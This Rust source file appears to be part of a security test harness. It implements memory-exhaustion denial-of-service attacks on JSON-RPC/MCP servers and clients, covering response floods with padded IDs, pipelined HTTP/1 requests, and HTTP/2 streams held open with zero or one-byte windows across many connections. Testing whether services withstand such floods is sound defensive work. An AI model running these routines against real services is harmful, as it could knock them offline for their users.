//! A3: responses to a peer that does not read.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use bytes::Bytes;
use serde_json::json;
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

use crate::attack::{Attack, Target, on_client, on_server};
use crate::hostile_server;
use crate::http1::{self, RawHttp1};
use crate::http2::{self, BodyEnd};
use crate::line_wire::LineWire;
use crate::raw_http2::{self, RawHttp2, frame};
use crate::{rpc, runner};

pub(crate) fn attacks() -> Vec<Attack> {
    let servers = on_server![
        "A3" Default calls_over_lines_without_reading_responses,
        "A3" Default pings_with_long_ids_over_lines_without_reading_responses,
        "A3" Default pipelined_requests_without_reading_responses,
        "A3" Default zero_window_streams_request_large_responses,
        "A3" Default zero_window_streams_request_small_responses,
        "A3" Default one_byte_windows_request_small_responses,
        "A3" Default one_byte_windows_request_small_events,
    ];
    let clients = on_client![
        "A3" "lines-legacy" a_server_pings_with_long_ids_without_reading_responses,
    ];
    [servers.to_vec(), clients.to_vec()].concat()
}

async fn calls_over_lines_without_reading_responses(target: Target) -> Result<String, String> {
    let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
    let calls = (0..1_000_000).map(|id| rpc::quick_call(id, "big", r#"{"bytes":200000}"#));
    let flood = wire.flood(calls).await;
    wait_for_responses().await;
    flood.expect_interrupted()
}

async fn pings_with_long_ids_over_lines_without_reading_responses(
    target: Target,
) -> Result<String, String> {
    let mut wire = LineWire::legacy(target.lines).await.map_err(text)?;
    let flood = wire.flood(pings()).await;
    wait_for_responses().await;
    flood.expect_interrupted()
}

async fn pipelined_requests_without_reading_responses(target: Target) -> Result<String, String> {
    let body = rpc::call(1, "big", json!({"bytes": 1 << 20}));
    let request = http1::post(&http1::call_headers("big"), &body);
    let requests = Bytes::from(request.repeat(20));
    let sent = Arc::new(AtomicU64::new(0));
    let mut connections = JoinSet::new();
    for _ in 0..runner::connections(400) {
        let (requests, sent, to) = (requests.clone(), sent.clone(), target.http);
        connections.spawn(async move {
            let mut http = RawHttp1::connect(to).await.ok()?;
            http.write(requests).await.ok()?;
            sent.fetch_add(20, Ordering::Relaxed);
            let _held = http;
            std::future::pending::<Option<()>>().await
        });
    }
    let sent = http2::wait_until_settled(&sent, 0, connections.len() as u64 * 20).await;
    wait_for_responses().await;
    Ok(format!(
        "{sent} requests over {} connections",
        connections.len()
    ))
}

async fn zero_window_streams_request_large_responses(target: Target) -> Result<String, String> {
    let body = Bytes::from(rpc::call(1, "big", json!({"bytes": 1 << 20})));
    let length = body.len();
    let sent = Arc::new(AtomicU64::new(0));
    let mut streams = JoinSet::new();
    for _ in 0..2 {
        let sender = http2::connect(target.http, 0).await?;
        for _ in 0..250 {
            let (sender, body, sent) = (sender.clone(), body.clone(), sent.clone());
            streams.spawn(async move {
                let (response, stream) = http2::begin(sender, http2::call("big")).await.ok()?;
                let stream = http2::send(stream, body, BodyEnd::Complete, sent).await;
                let _held = (response, stream);
                std::future::pending::<Option<()>>().await
            });
        }
    }
    let sent = http2::wait_until_settled(&sent, 0, (streams.len() * length) as u64).await;
    wait_for_responses().await;
    Ok(format!(
        "{} streams open, {} KiB sent",
        streams.len(),
        sent >> 10
    ))
}

async fn zero_window_streams_request_small_responses(target: Target) -> Result<String, String> {
    list_tools(target, 0, "application/json, text/event-stream").await
}

/// The server takes an answer out of its response, which then waits in the buffers of HTTP/2.
async fn one_byte_windows_request_small_responses(target: Target) -> Result<String, String> {
    list_tools(target, 1, "application/json, text/event-stream").await
}

async fn one_byte_windows_request_small_events(target: Target) -> Result<String, String> {
    list_tools(target, 1, "text/event-stream").await
}

/// Requests lists of tools on all streams of 1,000 connections, and admits `window` bytes of each response.
async fn list_tools(target: Target, window: u32, accept: &str) -> Result<String, String> {
    let head = raw_http2::post(&[
        ("accept", accept),
        ("mcp-protocol-version", rpc::MODERN),
        ("mcp-method", "tools/list"),
    ]);
    let body = rpc::modern(1, "tools/list", json!({}));
    let requests = Bytes::from(
        (0..STREAMS)
            .flat_map(|number| {
                let stream = number * 2 + 1;
                let head = frame(raw_http2::HEADERS, raw_http2::END_HEADERS, stream, &head);
                [
                    head,
                    frame(
                        raw_http2::DATA,
                        raw_http2::END_STREAM,
                        stream,
                        body.as_bytes(),
                    ),
                ]
            })
            .collect::<Vec<_>>()
            .concat(),
    );
    let answered = Arc::new(AtomicU64::new(0));
    let all = runner::connections(1000);
    // The attack is on memory. All at once it would be one on the processor.
    let turns = Arc::new(Semaphore::new(16));
    let mut connections = JoinSet::new();
    for _ in 0..all {
        let (requests, answered, to) = (requests.clone(), answered.clone(), target.http);
        let turns = turns.clone();
        connections.spawn(async move {
            let turn = turns.acquire_owned().await.ok()?;
            let settings = raw_http2::initial_window(window);
            let mut raw = RawHttp2::connect_with(to, &settings).await.ok()?;
            let _ended = raw.flood([requests.to_vec()]).await;
            // The server may close the connection to make room for others.
            let _ended = raw.read_heads(STREAMS).await;
            answered.fetch_add(1, Ordering::Relaxed);
            drop(turn);
            let _held = raw;
            std::future::pending::<Option<()>>().await
        });
    }
    // So many would take more memory than the limit, if they were not charged.
    let least = all.min(300) as u64;
    let answered = http2::wait_until_settled(&answered, least, all as u64).await;
    http2::expect_at_least(answered, least, "connections with responses")?;
    Ok(format!(
        "{answered} connections with {STREAMS} streams each"
    ))
}

async fn a_server_pings_with_long_ids_without_reading_responses(
    listener: TcpListener,
) -> Result<String, String> {
    let mut wire = hostile_server::accept_legacy_line(listener).await?;
    let flood = wire.flood(pings()).await;
    // The client exits when the wire ends.
    wait_for_responses().await;
    flood.expect_interrupted()
}

/// Pings with long responses: a queue of 16,384 of them takes a gigabyte.
fn pings() -> impl Iterator<Item = String> {
    let padding = "i".repeat(60_000);
    (0..10_000).map(move |id| rpc::quick(format_args!(r#""{padding}{id}""#), "ping", "{}"))
}

/// Waits until more responses are queued.
async fn wait_for_responses() {
    crate::pause::pause(Duration::from_millis(700)).await;
}

/// More streams than a server allows on a connection.
const STREAMS: u32 = 256;

fn text(error: std::io::Error) -> String {
    error.to_string()
}
